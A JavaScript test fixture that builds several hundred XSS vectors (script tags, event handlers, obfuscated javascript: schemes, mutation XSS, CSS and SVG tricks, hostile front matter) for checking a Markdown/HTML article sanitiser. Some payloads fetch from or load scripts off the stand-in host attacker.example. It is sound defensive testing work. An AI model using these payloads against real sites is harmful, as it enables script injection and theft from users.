// The XSS vectors for the browser suite (tests/e2e/xss.test.mjs): each one is a whole
// article file. Every payload calls a hook the test installs or reaches a host the test
// watches, so an attack that works is seen: `__xss(n)`, `alert(n)` or
// `fetch('https://attacker.example/x/n')`, where n is the vector's number.
//
// Hosts: ATTACKER is never to be contacted; IMAGE_HOST serves harmless images that a
// vector may legitimately show. Payloads contain no spaces so they fit in Markdown
// link destinations and unquoted attributes.

/** A host no rendered article may ever contact. */
export const ATTACKER = 'attacker.example';
/** A host whose images may load (only as `<img>`, and only when remote images are on). */
export const IMAGE_HOST = 'img.example';

/**
 * @typedef {object} Vector
 * @property {number} id        Unique, the number the payload reports.
 * @property {string} family    The kind of attack (script, handler-element, url-attribute …).
 * @property {string} name      A short description for failure messages.
 * @property {string} fileName  The article's file name (its extension picks Markdown or HTML).
 * @property {string} text      The whole file.
 */

/** Elements that get every commonly firing handler at once. */
const ELEMENTS = [
  'a', 'abbr', 'address', 'area', 'article', 'aside', 'audio', 'b', 'bdo', 'blockquote', 'body', 'br',
  'button', 'canvas', 'caption', 'code', 'col', 'details', 'dialog', 'div', 'dl', 'em', 'embed', 'fieldset',
  'figure', 'font', 'footer', 'form', 'frameset', 'h1', 'header', 'hr', 'html', 'i', 'iframe', 'img', 'image',
  'input', 'ins', 'kbd', 'label', 'li', 'link', 'map', 'marquee', 'math', 'meter', 'nav', 'object', 'ol',
  'p', 'picture', 'pre', 'progress', 'q', 'section', 'select', 'source', 'span', 'strong', 'style', 'sub',
  'summary', 'sup', 'svg', 'table', 'td', 'textarea', 'th', 'tr', 'track', 'u', 'ul', 'video', 'xmp',
];

/** Event handler attributes, each tried on several elements. */
const HANDLERS = [
  'onabort', 'onafterprint', 'onanimationend', 'onanimationiteration', 'onanimationstart', 'onauxclick',
  'onbeforecopy', 'onbeforecut', 'onbeforeinput', 'onbeforeprint', 'onbeforetoggle', 'onbeforeunload',
  'onbegin', 'onblur', 'oncancel', 'oncanplay', 'oncanplaythrough', 'onchange', 'onclick', 'onclose',
  'oncontentvisibilityautostatechange', 'oncontextmenu', 'oncopy', 'oncuechange', 'oncut', 'ondblclick',
  'ondrag', 'ondragend', 'ondragenter', 'ondragleave', 'ondragover', 'ondragstart', 'ondrop',
  'ondurationchange', 'onend', 'onended', 'onerror', 'onfocus', 'onfocusin', 'onfocusout', 'onformdata',
  'onfullscreenchange', 'onhashchange', 'oninput', 'oninvalid', 'onkeydown', 'onkeypress', 'onkeyup',
  'onload', 'onloadeddata', 'onloadedmetadata', 'onloadstart', 'onmessage', 'onmousedown', 'onmouseenter',
  'onmouseleave', 'onmousemove', 'onmouseout', 'onmouseover', 'onmouseup', 'onmousewheel', 'onoffline',
  'ononline', 'onpagehide', 'onpageshow', 'onpaste', 'onpause', 'onplay', 'onplaying', 'onpointerdown',
  'onpointerenter', 'onpointerleave', 'onpointermove', 'onpointerout', 'onpointerover', 'onpointerrawupdate',
  'onpointerup', 'onpopstate', 'onprogress', 'onratechange', 'onrepeat', 'onreset', 'onresize', 'onscroll',
  'onscrollend', 'onsearch', 'onseeked', 'onseeking', 'onselect', 'onselectionchange', 'onselectstart',
  'onshow', 'onstalled', 'onstorage', 'onsubmit', 'onsuspend', 'ontimeupdate', 'ontoggle', 'ontouchstart',
  'ontransitionend', 'ontransitionstart', 'onunload', 'onvolumechange', 'onwaiting', 'onwheel',
];

/** Attributes that take a URL, each on an element where it means something. */
const URL_ATTRIBUTES = [
  ['href', (u) => `<a href="${u}">link</a>`],
  ['href (area)', (u) => `<map name="m"><area shape="rect" coords="0,0,99,99" href="${u}"></map><img usemap="#m" src="https://${IMAGE_HOST}/m.png">`],
  ['src', (u) => `<img src="${u}">`],
  ['src (iframe)', (u) => `<iframe src="${u}"></iframe>`],
  ['src (script)', (u) => `<script src="${u}"></script>`],
  ['action', (u) => `<form action="${u}"><input type="submit" value="go"></form>`],
  ['formaction', (u) => `<form><button formaction="${u}">go</button><input type="image" formaction="${u}" src="https://${IMAGE_HOST}/b.png"></form>`],
  ['xlink:href', (u) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${u}"><text x="10" y="20">link</text></a><image xlink:href="${u}"/></svg>`],
  ['poster', (u) => `<video poster="${u}" controls></video>`],
  ['background', (u) => `<table background="${u}"><tr><td background="${u}">cell</td></tr></table>`],
  ['cite', (u) => `<blockquote cite="${u}">quote</blockquote><q cite="${u}">q</q><ins cite="${u}">ins</ins>`],
  ['srcset', (u) => `<img srcset="${u} 1x" src="https://${IMAGE_HOST}/s.png"><picture><source srcset="${u}"><img src="https://${IMAGE_HOST}/p.png"></picture>`],
  ['ping', (u) => `<a href="https://${IMAGE_HOST}/" ping="${u}">ping</a>`],
  ['data', (u) => `<object data="${u}"></object>`],
  ['src (embed)', (u) => `<embed src="${u}">`],
];

/** Obfuscated spellings of `javascript:` (and friends) as they would appear in HTML source. */
const OBFUSCATED = [
  '&#106;avascript:', '&#x6A;avascript:', '&#0000106;&#0000097;vascript:', '&#x6a&#x61vascript:',
  'java&#x09;script:', 'java&#x0A;script:', 'java&#x0D;script:', 'java&#9;script:', 'jav&Tab;ascript:',
  'jav&NewLine;ascript:', '\u0001javascript:', ' \u0008javascript:', 'javascript&colon;', 'JaVaScRiPt:',
  '&#74;&#65;&#86;&#65;script:', 'java\tscript:', 'java&#0;script:', '  javascript:', 'javascript\t:',
  '&#x20;javascript:', 'vbscript:', 'VBSCRIPT&#58;', 'livescript:', 'data&colon;text/html,',
];

/**
 * The payload for vector n, rotating between the three hooks.
 * @param {number} n
 * @returns {string}
 */
export function payload(n) {
  return [`__xss(${n})`, `alert(${n})`, `fetch('https://${ATTACKER}/x/${n}')`][n % 3];
}

/**
 * A data:text/html document that reports vector n if it ever runs (its own origin, so it
 * calls home over the network rather than through the hook).
 * @param {number} n
 */
function dataHtml(n) {
  return `data:text/html;base64,${Buffer.from(`<script>fetch('https://${ATTACKER}/d/${n}');parent.__xss(${n})</script>`).toString('base64')}`;
}

/**
 * Builds all vectors, numbered from 1.
 * @returns {Vector[]}
 */
export function vectors() {
  /** @type {Vector[]} */
  const out = [];
  /**
   * Adds one vector. `make` gets the number and the payload. HTML-only fragments rotate
   * between a Markdown raw HTML block, Markdown inline HTML and an HTML file.
   * @param {string} family
   * @param {string} name
   * @param {(n: number, p: string) => string} make
   * @param {'md' | 'html' | 'rotate'} [kind]
   */
  const add = (family, name, make, kind = 'rotate') => {
    const id = out.length + 1;
    const body = make(id, payload(id));
    const pick = kind === 'rotate' ? ['md-block', 'md-inline', 'html'][id % 3] : kind;
    let text = body;
    let ext = 'md';
    if (pick === 'md-block') text = `# Vector ${id}\n\n${body}\n\nAfter.\n`;
    else if (pick === 'md-inline') text = `Some *text* before ${body.replace(/\n/g, ' ')} and after.\n`;
    else if (pick === 'html') {
      ext = 'html';
      text = `<!doctype html><html><head><title>Vector ${id}</title></head><body><article>${body}</article></body></html>\n`;
    }
    out.push({ id, family, name, fileName: `v${String(id).padStart(3, '0')}.${ext}`, text });
  };

  // Script in every spelling.
  const scripts = [
    ['lower case', (p) => `<script>${p}</script>`],
    ['upper case', (p) => `<SCRIPT>${p}</SCRIPT>`],
    ['mixed case', (p) => `<ScRiPt>${p}</sCrIpT>`],
    ['slash attribute', (p) => `<script/x>${p}</script>`],
    ['slash src', (n, _p) => `<script/src="https://${ATTACKER}/s/${n}.js"></script>`],
    ['type text/javascript', (p) => `<script type="text/javascript">${p}</script>`],
    ['type module', (p) => `<script type="module">${p}</script>`],
    ['src attribute', (n, _p) => `<SCRIPT SRC=https://${ATTACKER}/s/${n}.js></SCRIPT>`],
    ['data: src', (n, p) => `<script src="data:text/javascript,${p}"></script>`],
    ['unclosed', (p) => `<script>${p}`],
    ['unclosed tag', (p) => `<script ${p}`],
    ['split tag', (p) => `<scr<script>ipt>${p}</scr</script>ipt>`],
    ['double angle', (p) => `<<script>${p}//<</script>`],
    ['newline in tag', (p) => `<script\n>${p}</script\n>`],
    ['tab in tag', (p) => `<script\t>${p}</script\t>`],
    ['in svg', (p) => `<svg><script>${p}</script></svg>`],
    ['svg xlink:href', (n, p) => `<svg><script xlink:href="data:,${p}"></script></svg>`],
    ['svg href', (n, p) => `<svg><script href="data:,${p}"></script></svg>`],
    ['comment split', (p) => `<script>/*</script><script>*/${p}</script>`],
    ['in title attribute', (p) => `<p title="</p><script>${p}</script>">t</p>`],
    ['in alt attribute', (p) => `<img alt="<script>${p}</script>" src="https://${IMAGE_HOST}/a.png">`],
    ['in attribute then break out', (p) => `<a title='"><script>${p}</script>'>t</a>"><script>${p}</script>`],
    ['nested', (p) => `<div><p><span><script>${p}</script></span></p></div>`],
    ['end tag first', (p) => `</script><script>${p}</script>`],
    ['charset attribute', (p) => `<script charset="utf-7">${p}</script>`],
    ['inside table', (p) => `<table><tr><script>${p}</script><td>x</td></tr></table>`],
    ['in select', (p) => `<select><option><script>${p}</script></option></select>`],
    ['event in script tag', (p) => `<script onload="${p}" src="https://${IMAGE_HOST}/x.js"></script>`],
    ['encoded in entity text', (p) => `&lt;script&gt;${p}&lt;/script&gt;<script>${p}</script>`],
    ['in code span and fence', (p) => `\`<script>${p}</script>\`\n\n\`\`\`html\n<script>${p}</script>\n\`\`\`\n\n<script>${p}</script>`],
    ['handler spellings', (p) => `<IMG SRC=x ONERROR=${p}><img/src=x/onerror=${p}><img src=x onerror\n=${p}><img src=x onerror="${p}"onload=${p}><img src=\`x\` onerror=\`${p}\`>`],
    ['handler with entities', (p) => `<img src=x onerror="&#${p.charCodeAt(0)};${p.slice(1)}"><img src=x onerror=&#x61;lert(1)>`],
  ];
  for (const [name, make] of scripts) {
    add('script', name, (n, p) => (make.length === 2 ? make(n, p) : make(p)));
  }

  // Event handlers on every element.
  for (const tag of ELEMENTS) {
    const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onclick', 'ontoggle', 'onanimationstart', 'onbegin', 'onpageshow', 'onscroll', 'onstart']
      .map((h) => `${h}="__HOOK__"`).join(' ');
    add('handler-element', `<${tag}> with handlers`, (n, p) =>
      `<${tag} src="x" href="x" data="x" poster="x" autofocus tabindex="1" open ${handlers.replaceAll('__HOOK__', p)}>text</${tag}> after`);
  }
  // Every on* attribute name, on the elements most likely to fire it.
  for (const handler of HANDLERS) {
    add('handler-attribute', handler, (n, p) => [
      `<img src="x" ${handler}="${p}">`,
      `<div ${handler}="${p}" tabindex="0" autofocus>div</div>`,
      `<details open ${handler}="${p}"><summary>s</summary>d</details>`,
      `<input ${handler}="${p}" autofocus>`,
      `<svg ${handler}="${p}"><animate ${handler}="${p}" attributeName="x" dur="1s"/></svg>`,
      `<video src="x" ${handler}="${p}"></video>`,
      `<body ${handler}="${p}">`,
    ].join(''));
  }

  // Dangerous schemes in every URL attribute.
  for (const [attr, make] of URL_ATTRIBUTES) {
    add('url-attribute', `javascript: in ${attr}`, (n, p) => make(`javascript:${p}`));
    add('url-attribute', `vbscript: in ${attr}`, (n) => make(`vbscript:msgbox(${n})`));
    add('url-attribute', `data:text/html in ${attr}`, (n) => make(dataHtml(n)));
  }
  add('url-attribute', 'svg data: image in img src', (n, p) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${p}'/>">`);
  add('url-attribute', 'iframe srcdoc', (n, p) => `<iframe srcdoc="<script>parent.${p}</script>"></iframe>`);
  add('url-attribute', 'dynsrc and lowsrc', (n, p) => `<img dynsrc="javascript:${p}" lowsrc="javascript:${p}" src="https://${IMAGE_HOST}/l.png">`);
  add('url-attribute', 'formaction on input submit', (n, p) => `<input type="submit" formaction="javascript:${p}" value="go">`);
  add('url-attribute', 'attacker host in link and image attributes', (n) =>
    `<a href="https://${ATTACKER}/a/${n}" ping="https://${ATTACKER}/ping/${n}">x</a><video src="https://${ATTACKER}/v/${n}.mp4" autoplay></video><audio src="https://${ATTACKER}/au/${n}.mp3" autoplay></audio><track src="https://${ATTACKER}/t/${n}.vtt">`);

  // Markdown links, images, autolinks and reference links.
  const markdownUrls = [
    ['javascript:', (n, p) => `javascript:${p}`],
    ['JAVASCRIPT:', (n, p) => `JAVASCRIPT:${p}`],
    ['vbscript:', (n) => `vbscript:msgbox(${n})`],
    ['data:text/html', (n) => dataHtml(n)],
    ['entity javascript', (n, p) => `&#106;avascript:${p}`],
    ['hex entity javascript', (n, p) => `&#x6A;avascript&#x3A;${p}`],
    ['colon entity', (n, p) => `javascript&colon;${p}`],
    ['tab entity', (n, p) => `java&Tab;script:${p}`],
    ['percent-encoded', (n, p) => `javascript%3A${p}`],
    ['angle brackets', (n, p) => `<javascript:${p}>`],
    ['svg data image', (n, p) => `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${p}"/>`).toString('base64')}`],
  ];
  for (const [name, url] of markdownUrls) {
    add('markdown', `link ${name}`, (n, p) => `[click](${url(n, p)}) and [titled](${url(n, p)} "t")`, 'md-block');
    add('markdown', `image ${name}`, (n, p) => `![alt](${url(n, p)})`, 'md-block');
    add('markdown', `reference ${name}`, (n, p) => `[ref][r] and ![img][r]\n\n[r]: ${url(n, p)}`, 'md-block');
  }
  add('markdown', 'autolink javascript:', (n, p) => `<javascript:${p}> <JavaScript:${p}>`, 'md-block');
  add('markdown', 'autolink vbscript: and data:', (n) => `<vbscript:msgbox(${n})> <${dataHtml(n)}>`, 'md-block');
  add('markdown', 'GFM autolink text', (n, p) => `www.example.com/javascript:${p} and javascript:${p} and https://${IMAGE_HOST}/"onmouseover="${p}`, 'md-block');
  add('markdown', 'title breaks out of attribute', (n, p) => `[x](https://${IMAGE_HOST}/ "\\" onmouseover=\\"${p}") ![y](https://${IMAGE_HOST}/y.png '" onerror="${p}')`, 'md-block');
  add('markdown', 'alt breaks out of attribute', (n, p) => `![" onerror="${p}](x) ![<img src=x onerror=${p}>](x)`, 'md-block');
  add('markdown', 'link text holds HTML', (n, p) => `[<img src=x onerror=${p}>](https://${IMAGE_HOST}/)`, 'md-block');
  add('markdown', 'footnote holds HTML', (n, p) => `Text[^1].\n\n[^1]: <img src=x onerror=${p}> [j](javascript:${p})`, 'md-block');
  add('markdown', 'task list and table cells', (n, p) => `- [x] <img src=x onerror=${p}>\n\n| a | b |\n|---|---|\n| <svg onload=${p}> | [j](javascript:${p}) |`, 'md-block');
  add('markdown', 'heading id clobbering', (n) => `# __xss\n\n<a id="__xss" name="__xss">a</a><form name="alert"></form><img name="fetch" src="https://${IMAGE_HOST}/n${n}.png">`, 'md-block');

  // Entity- and whitespace-obfuscated schemes, in three contexts each.
  for (const scheme of OBFUSCATED) {
    add('obfuscated', `${JSON.stringify(scheme)} in a[href]`, (n, p) => `<a href="${scheme}${p}">a</a>`);
    add('obfuscated', `${JSON.stringify(scheme)} in iframe[src] and img[src]`, (n, p) => `<iframe src="${scheme}${p}"></iframe><img src="${scheme}${p}">`);
    add('obfuscated', `${JSON.stringify(scheme)} in a Markdown link`, (n, p) => `[md](${scheme.replace(/[\s\u0000-\u001f]/g, '')}${p}) [md2](<${scheme}${p}>)`, 'md-block');
  }

  // Mutation XSS: markup that changes meaning when parsed twice.
  const mutations = [
    ['noscript title', (p) => `<noscript><p title="</noscript><img src=x onerror=${p}>"></noscript>`],
    ['template', (p) => `<template><img src=x onerror=${p}></template><template><script>${p}</script></template>`],
    ['template shadowroot', (p) => `<div><template shadowrootmode="open"><img src=x onerror=${p}></template></div>`],
    ['style in svg', (p) => `<svg><style><img src=x onerror=${p}></style></svg>`],
    ['style in math', (p) => `<math><style><img src=x onerror=${p}></style></math>`],
    ['math mtext table mglyph style', (p) => `<math><mtext><table><mglyph><style><img src=x onerror=${p}>`],
    ['math mglyph style comment', (p) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${p}&gt;">`],
    ['nested forms', (p) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${p}>`],
    ['form in form', (p) => `<form id="a"><form id="b"><input formaction="javascript:${p}" type="submit"></form></form>`],
    ['comment open close', (p) => `<!--><img src=x onerror=${p}>-->`],
    ['comment dash', (p) => `<!---><img src=x onerror=${p}>-->`],
    ['comment bang', (p) => `<!-- --!><img src=x onerror=${p}>-->`],
    ['comment in attribute', (p) => `<p title="<!--"><img src=x onerror=${p}>--></p>`],
    ['cdata in svg', (p) => `<svg><![CDATA[><img src=x onerror=${p}>]]></svg>`],
    ['cdata outside svg', (p) => `<![CDATA[><img src=x onerror=${p}>]]>`],
    ['svg p style', (p) => `<svg></p><style><a id="</style><img src=1 onerror=${p}>">`],
    ['svg p style title', (p) => `<svg><p><style><g title="</style><img src=x onerror=${p}>">`],
    ['math mi mglyph svg mtext textarea', (p) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${p} src=1>">`],
    ['xmp', (p) => `<xmp><img title="</xmp><img src=x onerror=${p}>"></xmp>`],
    ['title', (p) => `<title><img title="</title><img src=x onerror=${p}>"></title>`],
    ['textarea', (p) => `<textarea><img title="</textarea><img src=x onerror=${p}>"></textarea>`],
    ['style', (p) => `<style><img title="</style><img src=x onerror=${p}>"></style>`],
    ['iframe text', (p) => `<iframe><img title="</iframe><img src=x onerror=${p}>"></iframe>`],
    ['noembed', (p) => `<noembed><img title="</noembed><img src=x onerror=${p}>"></noembed>`],
    ['noframes', (p) => `<noframes><img title="</noframes><img src=x onerror=${p}>"></noframes>`],
    ['plaintext', (p) => `<plaintext><img src=x onerror=${p}>`],
    ['select img', (p) => `<select><img src=x onerror=${p}></select><select><template><img src=x onerror=${p}></template></select>`],
    ['table foster parenting', (p) => `<table><img src=x onerror=${p}><tr><td>c</td></tr></table>`],
    ['svg foreignObject', (p) => `<svg><foreignObject><img src=x onerror=${p}></foreignObject></svg>`],
    ['math annotation-xml', (p) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${p}></annotation-xml></math>`],
    ['svg desc', (p) => `<svg><desc><img src=x onerror=${p}></desc></svg>`],
    ['unclosed attribute quote', (p) => `<p title="a>b<img src=x onerror=${p}>`],
    ['namespace confusion', (p) => `<svg><a><svg:img src=x onerror=${p}></a></svg>`],
    ['dom clobbering', (p) => `<img name="getElementById" src=x><form id="__xss"><input name="toString"></form><img src=x onerror=${p}>`],
  ];
  for (const [name, make] of mutations) add('mutation', name, (n, p) => make(p));

  // Frames, objects, embeds, base, meta refresh, link import.
  const frames = [
    ['iframe javascript:', (n, p) => `<iframe src="javascript:${p}"></iframe>`],
    ['iframe attacker', (n) => `<iframe src="https://${ATTACKER}/f/${n}"></iframe>`],
    ['iframe srcdoc with script', (n, p) => `<iframe srcdoc="&lt;script&gt;parent.${p}&lt;/script&gt;"></iframe>`],
    ['frameset frame', (n, p) => `<frameset><frame src="javascript:${p}"></frameset>`],
    ['object javascript:', (n, p) => `<object data="javascript:${p}"></object>`],
    ['object attacker', (n) => `<object data="https://${ATTACKER}/o/${n}.swf" type="application/x-shockwave-flash"><param name="movie" value="https://${ATTACKER}/o/${n}"></object>`],
    ['embed attacker', (n) => `<embed src="https://${ATTACKER}/e/${n}.svg" type="image/svg+xml">`],
    ['embed javascript:', (n, p) => `<embed src="javascript:${p}">`],
    ['base href', (n) => `<base href="https://${ATTACKER}/b/${n}/"><a href="x">x</a><script src="s.js"></script>`],
    ['meta refresh attacker', (n) => `<meta http-equiv="refresh" content="0;url=https://${ATTACKER}/m/${n}">`],
    ['meta refresh javascript:', (n, p) => `<meta http-equiv="refresh" content="0;url=javascript:${p}">`],
    ['meta refresh data:', (n) => `<meta http-equiv="refresh" content="0;url=${dataHtml(n)}">`],
    ['meta csp override', (n) => `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url"><script src="https://${ATTACKER}/s/${n}.js"></script>`],
    ['link import', (n) => `<link rel="import" href="https://${ATTACKER}/l/${n}.html">`],
    ['link stylesheet', (n) => `<link rel="stylesheet" href="https://${ATTACKER}/l/${n}.css">`],
    ['link preload and prefetch', (n) => `<link rel="preload" as="script" href="https://${ATTACKER}/l/${n}.js"><link rel="prefetch" href="https://${ATTACKER}/p/${n}"><link rel="dns-prefetch" href="//${ATTACKER}">`],
    ['portal and applet', (n, p) => `<portal src="https://${ATTACKER}/portal/${n}"></portal><applet code="javascript:${p}"></applet>`],
    ['isindex', (n, p) => `<isindex action="javascript:${p}" type="image" src="x" onerror="${p}">`],
  ];
  for (const [name, make] of frames) add('frame', name, make);

  // Style-based attacks.
  const styles = [
    ['expression()', (n, p) => `<div style="width:expression(${p})">x</div>`],
    ['url(javascript:)', (n, p) => `<div style="background:url(javascript:${p})">x</div>`],
    ['background attacker', (n) => `<div style="background-image:url('https://${ATTACKER}/c/${n}.png')">x</div>`],
    ['text-align then background', (n) => `<p style="text-align:left;background:url(https://${ATTACKER}/c/${n})">x</p>`],
    ['escaped semicolon', (n) => `<p style="text-align:center\\;background:url(https://${ATTACKER}/c/${n})">x</p>`],
    ['entity-encoded url', (n) => `<p style="text-align:left;background:&#x75;rl(https://${ATTACKER}/c/${n})">x</p>`],
    ['@import in style', (n) => `<style>@import 'https://${ATTACKER}/c/${n}.css';</style>`],
    ['@import in svg style', (n) => `<svg><style>@import url(https://${ATTACKER}/c/${n}.css);</style></svg>`],
    ['expression in style element', (n, p) => `<style>*{x:expression(${p})}</style>`],
    ['behavior', (n) => `<div style="behavior:url(https://${ATTACKER}/c/${n}.htc)">x</div>`],
    ['-moz-binding', (n) => `<div style="-moz-binding:url(https://${ATTACKER}/c/${n}.xml#x)">x</div>`],
    ['list-style-image', (n) => `<ul><li style="text-align: left; list-style-image:url(https://${ATTACKER}/c/${n})">x</li></ul>`],
    ['@font-face', (n) => `<style>@font-face{font-family:x;src:url(https://${ATTACKER}/c/${n}.woff)}body{font-family:x}</style>`],
    ['custom property', (n) => `<div style="--x:url(https://${ATTACKER}/c/${n});background:var(--x)">x</div>`],
    ['comment in declaration', (n) => `<p style="text-align:/**/left;background/**/:url(https://${ATTACKER}/c/${n})">x</p>`],
    ['svg style attribute', (n) => `<svg><rect style="fill:url(https://${ATTACKER}/c/${n}#x)" width="9" height="9"/></svg>`],
  ];
  for (const [name, make] of styles) add('style', name, make);

  // SVG animation tricks.
  const svgs = [
    ['animate href', (p) => `<svg><a><animate attributeName="href" values="javascript:${p}"/><text x="20" y="20">click</text></a></svg>`],
    ['animate xlink:href', (p) => `<svg><a xlink:href="#"><animate attributeName="xlink:href" values="javascript:${p}" begin="0s"/><text x="20" y="20">click</text></a></svg>`],
    ['set href', (p) => `<svg><a><set attributeName="href" to="javascript:${p}"/><text x="20" y="20">click</text></a></svg>`],
    ['animate from/to', (p) => `<svg><a><animate attributeName="href" from="javascript:${p}" to="javascript:${p}" dur="1s"/><text y="20">x</text></a></svg>`],
    ['animate onbegin', (p) => `<svg><animate onbegin="${p}" attributeName="x" dur="1s"/></svg>`],
    ['set onbegin', (p) => `<svg><set onbegin="${p}" attributeName="x" to="1"/></svg>`],
    ['animate onend', (p) => `<svg><animate onend="${p}" attributeName="x" dur="0.01s"/></svg>`],
    ['discard onbegin', (p) => `<svg><discard onbegin="${p}"/></svg>`],
    ['svg onload', (p) => `<svg onload="${p}"></svg><svg/onload=${p}>`],
    ['svg image onerror', (p) => `<svg><image href="x" onerror="${p}"/></svg>`],
    ['svg use data:', (p) => `<svg><use href="data:image/svg+xml;base64,${Buffer.from(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${p}"/></svg>`).toString('base64')}#x"/></svg>`],
    ['svg handler element', (p) => `<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">${p}</handler></svg>`],
    ['svg animateTransform values', (p) => `<svg><a><animateTransform attributeName="href" values="javascript:${p}"/><text y="20">x</text></a></svg>`],
    ['math href', (p) => `<math href="javascript:${p}"><mi xlink:href="javascript:${p}">click</mi></math>`],
  ];
  for (const [name, make] of svgs) add('svg', name, (n, p) => make(p));

  // Hostile front matter values.
  const hostile = [
    ['img onerror', (p) => `<img src=x onerror=${p}>`],
    ['breaks out of attribute', (p) => `"><script>${p}</script>`],
    ['svg onload', (p) => `<svg/onload=${p}>`],
  ];
  const fields = ['title', 'author', 'tags', 'categories', 'summary', 'description', 'lang', 'date'];
  for (const [name, make] of hostile) {
    for (const field of fields) {
      add('front-matter', `YAML ${field}: ${name}`, (n, p) => {
        const value = JSON.stringify(make(p));
        const list = field === 'tags' || field === 'categories';
        return `---\n${field}: ${list ? `[${value}, ok]` : value}\n---\n\nBody of vector ${n}.\n`;
      }, 'md');
    }
    add('front-matter', `TOML all fields: ${name}`, (n, p) => {
      const v = JSON.stringify(make(p));
      return `+++\ntitle = ${v}\nauthor = ${v}\ntags = [${v}]\ncategories = [${v}]\nsummary = ${v}\ncover = ${v}\n+++\n\nBody of vector ${n}.\n`;
    }, 'md');
    add('front-matter', `JSON all fields: ${name}`, (n, p) => {
      const v = make(p);
      return `${JSON.stringify({ title: v, author: v, authors: [v], tags: [v], categories: [[v, v]], summary: v, image: v })}\n\nBody of vector ${n}.\n`;
    }, 'md');
  }
  const covers = [
    ['javascript:', (p) => `javascript:${p}`],
    ['JaVaScRiPt:', (p) => `JaVaScRiPt:${p}`],
    ['leading space javascript:', (p) => ` javascript:${p}`],
    ['tab in scheme', (p) => `java\tscript:${p}`],
    ['entity scheme', (p) => `&#106;avascript:${p}`],
    ['vbscript:', (p) => `vbscript:${p}`],
    ['data:text/html', (p) => `data:text/html,<script>${p}</script>`],
    ['svg data: image', (p) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${p}'/>`],
    ['attribute break-out', (p) => `https://${IMAGE_HOST}/c.png" onerror="${p}`],
  ];
  for (const [name, make] of covers) {
    add('front-matter', `YAML cover ${name}`, (n, p) => `---\ntitle: Cover ${n}\ncover: ${JSON.stringify(make(p))}\n---\n\nBody.\n`, 'md');
    add('front-matter', `TOML and JSON image ${name}`, (n, p) => (n % 2
      ? `+++\ntitle = "Cover ${n}"\nimage = ${JSON.stringify(make(p))}\n+++\n\nBody.\n`
      : `${JSON.stringify({ title: `Cover ${n}`, thumbnail: make(p), banner: make(p) })}\n\nBody.\n`), 'md');
  }
  add('front-matter', 'YAML nested and aliased', (n, p) =>
    `---\ntitle: &t "<img src=x onerror=${p}>"\nauthor: { name: *t, url: "javascript:${p}" }\ntags:\n  - *t\n  - "<script>${p}</script>"\nextra: { html: "<svg onload=${p}>" }\n---\n\nBody.\n`, 'md');
  add('front-matter', 'Hexo front matter without leading fence', (n, p) =>
    `title: "<img src=x onerror=${p}>"\ntags: ["\\"><script>${p}</script>"]\n---\n\nBody.\n`, 'md');
  add('front-matter', 'HTML head metadata', (n, p) =>
    `<html><head><title>&lt;img src=x onerror=${p}&gt;</title><meta name="author" content="<script>${p}</script>"><meta property="og:image" content="javascript:${p}"><meta name="description" content="&quot;&gt;&lt;svg onload=${p}&gt;"></head><body><p>Body.</p></body></html>`, 'html');

  // Hostile file names (shown in the file list and the title).
  for (const [name, make] of [
    ['img in file name', (p) => `<img src=x onerror=${p}>.md`],
    ['script in file name', (p) => `"><script>${p}<\\script>.md`],
    ['svg in html file name', (p) => `<svg onload=${p}>.html`],
  ]) {
    add('file-name', name, (n) => `Body of vector ${n}, whose file name is hostile.\n`, 'md');
    const last = out[out.length - 1];
    last.fileName = make(payload(last.id));
  }
  return out;
}
